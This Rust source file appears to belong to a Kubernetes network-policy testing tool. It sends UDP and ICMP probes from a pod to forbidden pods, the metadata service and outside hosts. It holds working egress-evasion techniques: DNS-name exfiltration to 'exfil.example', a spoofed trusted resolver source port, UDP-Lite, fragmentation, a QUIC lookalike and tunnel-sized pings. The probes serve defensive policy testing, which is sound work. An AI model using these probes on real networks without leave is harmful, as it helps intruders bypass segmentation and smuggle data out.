//! Datagrams and pings that an unprivileged program can send.

use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6};

use socket2::{Protocol, SockAddr, Socket, Type};

use super::attempt::{Attempt, NoTarget, NotMade, anywhere, domain, icmp, portless};
use super::packet::{Ends, TXT, echo_request, protocol, question};
use super::system;
use super::targets::{Family, Sidecar};
use super::token::TRUSTED_PORTS;

type Made = Result<(), NotMade>;

/// Options of UDP-Lite (udplite(7)): how many bytes the checksum covers.
const UDPLITE_SEND_CSCOV: i32 = 10;
/// Level and protocol of UDP-Lite.
const IPPROTO_UDPLITE: i32 = 136;

/// To a pod that the attacker may not talk to.
pub(super) fn pod(attempt: &mut Attempt) -> Made {
    let target = forbidden_pod(attempt)?;
    send(attempt, target, 0)
}

/// To the cluster address of a service.
pub(super) fn service(attempt: &mut Attempt) -> Made {
    let target = attempt.targets.forbidden_service.ok_or(NoTarget("forbidden_service"))?.of(attempt.family);
    send(attempt, target, 0)
}

/// To a host outside, on a port of no known service.
pub(super) fn outside(attempt: &mut Attempt) -> Made {
    let target = outside_at(attempt, 4444)?;
    send(attempt, target, 0)
}

/// So large that it leaves in pieces.
pub(super) fn fragmented(attempt: &mut Attempt) -> Made {
    let target = forbidden_pod(attempt)?;
    send(attempt, target, 8000)
}

/// What looks like the first packet of QUIC.
pub(super) fn quic(attempt: &mut Attempt) -> Made {
    let target = outside_at(attempt, 443)?;
    let mut packet = vec![0xc3, 0, 0, 0, 1, 8];
    packet.extend(attempt.token.number().to_be_bytes());
    packet.extend([0, 0, 0x44, 0x9e]);
    packet.extend(attempt.payload(1182));
    send_bytes(attempt, target, &packet)
}

/// A question to a resolver outside whose name carries data.
pub(super) fn dns(attempt: &mut Attempt) -> Made {
    let target = outside_at(attempt, 53)?;
    let question = question(&[&attempt.token.to_string(), "exfil", "example"], TXT);
    send_bytes(attempt, target, &question)
}

/// From the source port of a resolver's answers, which careless rules trust.
pub(super) fn trusted_source_port(attempt: &mut Attempt) -> Made {
    let target = forbidden_pod(attempt)?;
    let ends = Ends { source_port: TRUSTED_PORTS[0], ..attempt.ends(0, target) };
    attempt.announce(protocol::UDP, ends);
    let sent = Socket::new(domain(target.ip()), Type::DGRAM, Some(Protocol::UDP)).and_then(|socket| {
        socket.bind(&SocketAddr::new(anywhere(attempt.family), ends.source_port).into())?;
        socket.send_to(&attempt.payload(0), &target.into())
    });
    attempt.note("sent", &sent);
    Ok(())
}

/// The metadata service by UDP.
pub(super) fn metadata(attempt: &mut Attempt) -> Made {
    let target = attempt.targets.metadata.ok_or(NoTarget("metadata"))?.of(attempt.family);
    send(attempt, target, 0)
}

/// By UDP-Lite, a protocol of its own that needs no privilege.
pub(super) fn udplite(attempt: &mut Attempt) -> Made {
    let target = forbidden_pod(attempt)?;
    attempt.announce(protocol::UDPLITE, attempt.ends(0, target));
    let sent = Socket::new(domain(target.ip()), Type::DGRAM, Some(Protocol::from(IPPROTO_UDPLITE))).and_then(
        |socket| {
            socket.bind(&SocketAddr::new(anywhere(attempt.family), attempt.token.source_port(0)).into())?;
            system::set_option(&socket, IPPROTO_UDPLITE, UDPLITE_SEND_CSCOV, 8)?;
            socket.send_to(&attempt.payload(0), &target.into())
        },
    );
    attempt.note_if_supported("UDP-Lite", &sent)
}

/// To every listener of the link: mDNS.
pub(super) fn multicast(attempt: &mut Attempt) -> Made {
    let link = attempt.targets.link.as_ref().ok_or(NoTarget("link"))?;
    let index = system::interface_index(&link.interface).unwrap_or(0);
    let target: SockAddr = match attempt.family {
        Family::V4 => SocketAddr::new(Ipv4Addr::new(224, 0, 0, 251).into(), 5353).into(),
        Family::V6 => SocketAddrV6::new(Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0xfb), 5353, 0, index).into(),
    };
    let to = target.as_socket().ok_or(NoTarget("link"))?;
    attempt.announce(protocol::UDP, attempt.ends(0, to));
    let sent = bound(attempt).and_then(|socket| {
        if attempt.family == Family::V4 {
            socket.set_multicast_if_v4(&attempt.targets.own.v4)?;
        }
        socket.send_to(&attempt.payload(0), &target)
    });
    attempt.note("sent", &sent);
    Ok(())
}

/// To everybody on the link (IPv4 only).
pub(super) fn broadcast(attempt: &mut Attempt) -> Made {
    let target = SocketAddr::new(Ipv4Addr::BROADCAST.into(), 6666);
    attempt.announce(protocol::UDP, attempt.ends(0, target));
    let sent = Socket::new(domain(target.ip()), Type::DGRAM, Some(Protocol::UDP)).and_then(|socket| {
        // Bound to the pod's address, which decides the interface.
        socket.bind(&SocketAddr::new(attempt.own(), attempt.token.source_port(0)).into())?;
        socket.set_broadcast(true)?;
        socket.send_to(&attempt.payload(0), &target.into())
    });
    attempt.note("sent", &sent);
    Ok(())
}

/// Ports of the sidecar that take datagrams, in the attacker's own pod.
pub(super) fn own_sidecar(attempt: &mut Attempt) -> Made {
    let address = attempt.own();
    sidecar_at(attempt, address, |sidecar| &sidecar.own_udp)
}

/// Ports of the sidecar that take datagrams, in another pod.
pub(super) fn peer_sidecar(attempt: &mut Attempt) -> Made {
    let address = attempt.targets.peer.ok_or(NoTarget("peer"))?.of(attempt.family);
    sidecar_at(attempt, address, |sidecar| &sidecar.peer_udp)
}

/// A ping of a pod.
pub(super) fn ping_pod(attempt: &mut Attempt) -> Made {
    let target = forbidden_pod(attempt)?;
    ping(attempt, target.ip(), 0)
}

/// A ping of a host outside.
pub(super) fn ping_outside(attempt: &mut Attempt) -> Made {
    let target = outside_at(attempt, 0)?;
    ping(attempt, target.ip(), 0)
}

/// A ping with as much data as a tunnel would carry.
pub(super) fn ping_tunnel(attempt: &mut Attempt) -> Made {
    let target = outside_at(attempt, 0)?;
    ping(attempt, target.ip(), 1000)
}

fn sidecar_at(attempt: &mut Attempt, address: IpAddr, ports: fn(&Sidecar) -> &[u16]) -> Made {
    let sidecar = attempt.targets.sidecar.as_ref().ok_or(NoTarget("sidecar"))?;
    let ports = ports(sidecar);
    if ports.is_empty() {
        return Err(NoTarget("ports of this kind"));
    }
    ports.iter().try_for_each(|port| send(attempt, SocketAddr::new(address, *port), 0))
}

fn forbidden_pod(attempt: &Attempt) -> Result<SocketAddr, NotMade> {
    Ok(attempt.targets.forbidden_pod.ok_or(NoTarget("forbidden_pod"))?.of(attempt.family))
}

fn outside_at(attempt: &Attempt, port: u16) -> Result<SocketAddr, NotMade> {
    let outside = attempt.targets.outside.ok_or(NoTarget("outside"))?;
    Ok(SocketAddr::new(outside.address.of(attempt.family), port))
}

fn send(attempt: &mut Attempt, target: SocketAddr, bytes: usize) -> Made {
    let payload = attempt.payload(bytes);
    send_bytes(attempt, target, &payload)
}

fn send_bytes(attempt: &mut Attempt, target: SocketAddr, payload: &[u8]) -> Made {
    attempt.announce(protocol::UDP, attempt.ends(0, target));
    let sent = bound(attempt).and_then(|socket| socket.send_to(payload, &target.into()));
    attempt.note(&format!("{target}: sent"), &sent);
    Ok(())
}

fn bound(attempt: &Attempt) -> io::Result<Socket> {
    let from = anywhere(attempt.family);
    let socket = Socket::new(domain(from), Type::DGRAM, Some(Protocol::UDP))?;
    socket.bind(&SocketAddr::new(from, attempt.token.source_port(0)).into())?;
    Ok(socket)
}

/// By a ping socket, which the kernel gives to groups that `ping_group_range` names.
fn ping(attempt: &mut Attempt, target: IpAddr, bytes: usize) -> Made {
    let number = icmp(attempt.family);
    let ends = Ends { source_port: 0, destination_port: 0, ..attempt.ends(0, SocketAddr::new(target, 0)) };
    attempt.announce(number, ends);
    let message = echo_request(attempt.own(), target, 1, &attempt.payload(bytes));
    let sent = Socket::new(domain(target), Type::DGRAM, Some(Protocol::from(i32::from(number))))
        .and_then(|socket| socket.send_to(&message, &portless(target)));
    attempt.note("sent", &sent);
    Ok(())
}
